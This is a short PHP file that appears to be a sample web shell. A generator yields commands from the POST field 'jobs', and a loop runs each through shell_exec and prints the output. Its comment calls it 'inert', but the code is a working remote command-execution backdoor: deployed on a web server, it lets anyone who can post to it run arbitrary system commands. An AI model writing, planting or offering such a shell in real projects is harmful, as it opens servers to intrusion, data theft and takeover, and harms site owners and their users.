<?php
// inert sample: a generator yields the posted commands one by one, and the loop that walks it runs
// each through the shell
function queue() {
    foreach ((array) ($_POST['jobs'] ?? array()) as $job) {
        yield trim($job);
    }
}
foreach (queue() as $line) {
    echo '<pre>' . shell_exec($line) . '</pre>';
}
